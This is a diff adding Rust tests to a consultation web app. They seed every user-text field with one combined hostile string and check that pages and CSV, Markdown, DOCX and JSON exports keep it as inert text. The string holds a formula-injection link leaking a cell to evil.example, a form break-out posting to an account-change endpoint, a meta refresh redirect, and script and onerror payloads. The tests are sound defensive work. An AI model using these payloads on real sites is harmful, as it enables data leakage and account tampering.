@@ -961,6 +961,291 @@ mod tests {
         assert_eq!(res.status(), StatusCode::OK);
     }
 
+    /// Every payload of issue 17 in one value: a formula first (for the CSV), a form and a
+    /// title break-out, a Markdown link, a script and an image with a handler, an override.
+    const HOSTILE_TEXT: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\") </textarea></form><form action=\"/api/change_account\" method=\"post\"><button>x</button> T </title><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"> [x](javascript:alert(1)) <script>alert(1)</script><img src=x onerror=alert(2)> \u{202e}ecnarF";
+
+    /// Stores [`HOSTILE_TEXT`] in every field of user text the pages and exports show, as
+    /// an older row or an import could hold it (the forms refuse some of it now).
+    async fn store_hostile_text(db: &sea_orm::DatabaseConnection) {
+        use app::backend::entities::{
+            comment, consultation, disposition, paper_version, paragraph, tag, user, working_paper,
+        };
+        use sea_orm::sea_query::Expr;
+        use sea_orm::{ActiveModelTrait, ColumnTrait, EntityTrait, QueryFilter, Set};
+        let h = || Expr::value(HOSTILE_TEXT.to_owned());
+        comment::Entity::update_many()
+            .col_expr(comment::Column::Body, h())
+            .col_expr(comment::Column::Quote, h())
+            .col_expr(comment::Column::AuthorName, h())
+            .col_expr(comment::Column::AuthorOrganisation, h())
+            .exec(db)
+            .await
+            .unwrap();
+        user::Entity::update_many()
+            .col_expr(user::Column::DisplayName, h())
+            .col_expr(user::Column::Organisation, h())
+            .exec(db)
+            .await
+            .unwrap();
+        consultation::Entity::update_many()
+            .col_expr(consultation::Column::Title, h())
+            .col_expr(consultation::Column::Description, h())
+            .exec(db)
+            .await
+            .unwrap();
+        working_paper::Entity::update_many()
+            .col_expr(working_paper::Column::Title, h())
+            .col_expr(working_paper::Column::AbstractText, h())
+            .exec(db)
+            .await
+            .unwrap();
+        paper_version::Entity::update_many()
+            .col_expr(paper_version::Column::Markdown, h())
+            .exec(db)
+            .await
+            .unwrap();
+        paragraph::Entity::update_many()
+            .col_expr(paragraph::Column::Text, h())
+            .exec(db)
+            .await
+            .unwrap();
+        tag::Entity::update_many()
+            .col_expr(tag::Column::NameEn, h())
+            .col_expr(tag::Column::NameFr, h())
+            .exec(db)
+            .await
+            .unwrap();
+        disposition::Entity::delete_many()
+            .filter(disposition::Column::CommentId.eq(1))
+            .exec(db)
+            .await
+            .unwrap();
+        disposition::ActiveModel {
+            comment_id: Set(1),
+            kind: Set("noted".to_owned()),
+            response: Set(HOSTILE_TEXT.to_owned()),
+            decided_by: Set(1),
+            decided_at: Set(time::OffsetDateTime::now_utc()),
+        }
+        .insert(db)
+        .await
+        .unwrap();
+    }
+
+    /// Checks a page holding [`HOSTILE_TEXT`] parses as the page made it: nothing
+    /// injected, every textarea holding exactly its text, names isolated from the app's
+    /// words after them.
+    fn assert_nothing_injected(uri: &str, page: &str) -> Vec<String> {
+        use scraper::{Html, Selector};
+        let doc = Html::parse_document(page);
+        let count = |css: &str| doc.select(&Selector::parse(css).unwrap()).count();
+        let mut problems = Vec::new();
+        for css in [
+            "meta[http-equiv=refresh]",
+            "meta[http-equiv=Refresh]",
+            "img[onerror]",
+        ] {
+            if count(css) > 0 {
+                problems.push(format!("{uri}: {css} injected"));
+            }
+        }
+        // The accounts page has its own forms to change accounts; elsewhere there are none.
+        if uri != "/desk/accounts" && count("form[action=\"/api/change_account\"]") > 0 {
+            problems.push(format!("{uri}: a form to change accounts injected"));
+        }
+        let buttons = Selector::parse("button").unwrap();
+        if doc
+            .select(&buttons)
+            .any(|b| b.text().collect::<String>() == "x")
+        {
+            problems.push(format!("{uri}: the hostile text's button injected"));
+        }
+        if count("script") != count("script[nonce]") {
+            problems.push(format!("{uri}: a script without the page's nonce"));
+        }
+        if count("head > title") != 1 {
+            problems.push(format!("{uri}: {} titles", count("head > title")));
+        }
+        for field in doc.select(&Selector::parse("textarea").unwrap()) {
+            let text: String = field.text().collect();
+            if !text.is_empty() && text != HOSTILE_TEXT {
+                problems.push(format!("{uri}: textarea holds {text:?}"));
+            }
+        }
+        for bdi in doc.select(&Selector::parse(".attribution bdi").unwrap()) {
+            if bdi.text().collect::<String>().contains('·') {
+                problems.push(format!("{uri}: the app's words inside a <bdi>"));
+            }
+        }
+        problems
+    }
+
+    #[tokio::test]
+    async fn hostile_text_in_every_displayed_field_stays_text_on_every_page_and_export() {
+        let (router, db) = router_and_db().await;
+        app::backend::demo::seed(&db, "a demo pass phrase here")
+            .await
+            .unwrap();
+        let admin = session_of(&db, "admin@example.org", app::domain::Role::Admin).await;
+        let author = {
+            let (_, token) = app::backend::accounts::sign_in(
+                &db,
+                "civil@demo.consult.example",
+                "a demo pass phrase here",
+            )
+            .await
+            .unwrap();
+            format!("{}={token}", sessions::SESSION_COOKIE)
+        };
+        store_hostile_text(&db).await;
+        let get = |uri: &str, cookie: &str| {
+            http::Request::get(uri)
+                .header(header::COOKIE, cookie)
+                .body(Body::empty())
+                .unwrap()
+        };
+        let slug = "wgig-2005-february";
+        let mut problems = Vec::new();
+        let mut textareas = 0;
+        for (uri, cookie) in [
+            (format!("/consultations/{slug}"), &admin),
+            (format!("/consultations/{slug}/papers/WP-ROOT"), &admin),
+            (
+                format!("/consultations/{slug}/papers/WP-ROOT/comment"),
+                &author,
+            ),
+            ("/my/comments".to_owned(), &author),
+            ("/search?q=HYPERLINK".to_owned(), &admin),
+            ("/desk".to_owned(), &admin),
+            ("/desk/comments/1".to_owned(), &admin),
+            ("/desk/accounts".to_owned(), &admin),
+            ("/desk/consultations".to_owned(), &admin),
+            (format!("/desk/consultations/{slug}"), &admin),
+            (format!("/desk/consultations/{slug}/papers/WP-ROOT"), &admin),
+            (format!("/digests/{slug}?status=all"), &admin),
+        ] {
+            let res = router.clone().oneshot(get(&uri, cookie)).await.unwrap();
+            let status = res.status();
+            let page = res.into_body().collect().await.unwrap().to_bytes();
+            let page = String::from_utf8_lossy(&page);
+            if status != StatusCode::OK {
+                problems.push(format!("{uri}: {status}"));
+            }
+            textareas += page.matches("<textarea").count();
+            problems.extend(assert_nothing_injected(&uri, &page));
+        }
+        assert!(problems.is_empty(), "{}", problems.join("\n"));
+        assert!(
+            textareas >= 4,
+            "the editor's and the desk's textareas were rendered"
+        );
+
+        // The exports: the CSV parsed back has no cell that starts a formula, the Markdown
+        // has no HTML and no link, the DOCX's XML is well-formed.
+        let download = |ext: &'static str| {
+            let router = router.clone();
+            let request = get(&format!("/digests/{slug}/all.{ext}?status=all"), &admin);
+            async move {
+                let res = router.oneshot(request).await.unwrap();
+                assert_eq!(res.status(), StatusCode::OK, "{ext}");
+                res.into_body().collect().await.unwrap().to_bytes().to_vec()
+            }
+        };
+        let csv = download("csv").await;
+        let mut reader = csv::Reader::from_reader(&csv[3..]);
+        let mut bodies = 0;
+        for row in reader.records() {
+            let row = row.unwrap();
+            for cell in row.iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "a formula: {cell:?}"
+                );
+            }
+            bodies += usize::from(row.iter().any(|c| c == format!("'{HOSTILE_TEXT}")));
+        }
+        assert!(bodies > 0, "the hostile text is in the CSV, with its quote");
+        let markdown = String::from_utf8(download("md").await).unwrap();
+        for event in
+            pulldown_cmark::Parser::new_ext(&markdown, pulldown_cmark::Options::ENABLE_TABLES)
+        {
+            use pulldown_cmark::{Event, Tag};
+            assert!(
+                !matches!(
+                    event,
+                    Event::Html(_)
+                        | Event::InlineHtml(_)
+                        | Event::Start(Tag::Link { .. } | Tag::Image { .. })
+                ),
+                "{event:?} in the Markdown digest"
+            );
+        }
+        assert!(markdown.contains("HYPERLINK"));
+        let docx = download("docx").await;
+        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(docx)).unwrap();
+        let mut xml = String::new();
+        std::io::Read::read_to_string(&mut archive.by_name("word/document.xml").unwrap(), &mut xml)
+            .unwrap();
+        let mut reader = quick_xml::Reader::from_str(&xml);
+        loop {
+            match reader.read_event() {
+                Ok(quick_xml::events::Event::Eof) => break,
+                Ok(_) => {}
+                Err(e) => panic!("the DOCX's XML is not well-formed: {e}"),
+            }
+        }
+        assert!(xml.contains("HYPERLINK") && !xml.contains("<script>"));
+        let json: serde_json::Value = serde_json::from_slice(&download("json").await).unwrap();
+        assert!(
+            json.to_string().contains("HYPERLINK"),
+            "JSON is data, kept as is"
+        );
+    }
+
+    #[tokio::test]
+    async fn the_digest_is_made_public_by_what_forms_and_scripts_send_and_other_values_are_refused()
+    {
+        let (router, db) = router_and_db().await;
+        app::backend::demo::seed(&db, "a demo pass phrase here")
+            .await
+            .unwrap();
+        let admin = session_of(&db, "admin@example.org", app::domain::Role::Admin).await;
+        let slug = "wgig-2005-february";
+        for (value, expected) in [
+            ("true", Some(true)),
+            ("false", Some(false)),
+            ("on", Some(true)),
+            ("0", Some(false)),
+            ("yes", Some(true)),
+            ("no", Some(false)),
+            ("1", Some(true)),
+            ("maybe", None),
+        ] {
+            let mut req = form_post(
+                "/api/set_digest_public",
+                &format!("slug={slug}&public={value}"),
+            );
+            req.headers_mut()
+                .insert(header::COOKIE, HeaderValue::from_str(&admin).unwrap());
+            let status = router.clone().oneshot(req).await.unwrap().status();
+            let now = app::backend::digest::is_public(&db, slug).await.unwrap();
+            match expected {
+                Some(public) => {
+                    assert!(
+                        status.is_success() || status.is_redirection(),
+                        "{value}: {status}"
+                    );
+                    assert_eq!(now, public, "public={value}");
+                }
+                None => {
+                    assert_eq!(status, StatusCode::BAD_REQUEST, "{value}");
+                    assert!(now, "a refused value changes nothing");
+                }
+            }
+        }
+    }
+
     /// Who calls, in the access-control table.
     #[derive(Clone, Copy, Debug, PartialEq, Eq)]
     enum Who {
